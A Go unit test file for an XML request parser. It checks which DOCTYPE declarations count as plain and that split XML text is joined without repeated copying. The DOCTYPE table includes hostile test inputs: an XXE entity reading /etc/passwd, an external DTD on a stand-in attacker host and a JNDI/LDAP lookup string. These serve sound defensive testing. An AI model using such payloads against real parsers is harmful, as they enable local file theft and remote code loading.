package parse

import (
	"strings"
	"testing"
)

func TestPlainDoctype(t *testing.T) {
	tests := []struct {
		d    string
		want bool
	}{
		{`<!DOCTYPE note>`, true},
		{`<!doctype html>`, true},
		{"<!DOCTYPE\tnote\n>", true},
		{`<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">`, true},
		{`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`, true},
		{`<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">`, true},
		{`<!DOCTYPE note SYSTEM 'note.dtd'>`, true},
		{`<!DOCTYPE note SYSTEM "http://attacker.example/x.dtd">`, true}, // XXE judges it
		{`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, false},
		{`<!DOCTYPE x SYSTEM "x.dtd" [<!ATTLIST x a CDATA "v">]>`, false},
		{`<!DOCTYPE x []>`, false},
		{`<!DOCTYPE x SYSTEM>`, false},
		{`<!DOCTYPE x PUBLIC>`, false},
		{`<!DOCTYPE x SYSTEM "a" "b">`, false},
		{`<!DOCTYPE x PUBLIC "a" "b" "c">`, false},
		{`<!DOCTYPE x PUBLIC "a{b}" "c">`, false}, // not a public identifier
		{`<!DOCTYPE x SYSTEM "<script>">`, false},
		{`<!DOCTYPE x PUBLIC"a">`, false},
		{`<!DOCTYPE x other words>`, false},
		{`<!DOCTYPEx>`, false},
		{`<!DOCTYPE >`, false},
		{`<!DOCTYPE ${jndi:ldap://x.example/a}>`, false},
	}
	for _, tt := range tests {
		if got := plainDoctype(tt.d); got != tt.want {
			t.Errorf("plainDoctype(%q) = %v, want %v", tt.d, got, tt.want)
		}
	}
}

// TestXMLJoinedTextCopiedOnce checks that text split by many comments, CDATA sections
// and processing instructions is joined without copying it again for each piece: the
// arena grows with the text, not with its square.
func TestXMLJoinedTextCopiedOnce(t *testing.T) {
	var b strings.Builder
	b.WriteString("<r><a>")
	for i := range 2000 {
		switch i % 3 {
		case 0:
			b.WriteString("x<!---->")
		case 1:
			b.WriteString("y<![CDATA[z]]>")
		default:
			b.WriteString("w<?p?>")
		}
	}
	b.WriteString("</a></r>")
	body := b.String()
	want := strings.Repeat("xyzw", 667)[:2000+667]

	// The arena holds the joined text once (and the path it is named by).
	r := httpReq("POST", "/", []string{"Content-Type", "application/xml"}, body)
	p := new(parser)
	p.start(r, Limits{Params: 10000, Depth: 16})
	p.body()
	if len(p.arena) > len(want)+16 {
		t.Errorf("arena holds %d bytes for %d bytes of joined text", len(p.arena), len(want))
	}
	p.finish()
	var text string
	for _, prm := range r.Params {
		if prm.Name == "r.a" {
			text = prm.Value
		}
	}
	if text != want {
		t.Fatalf("joined text has %d bytes, want %d", len(text), len(want))
	}
}
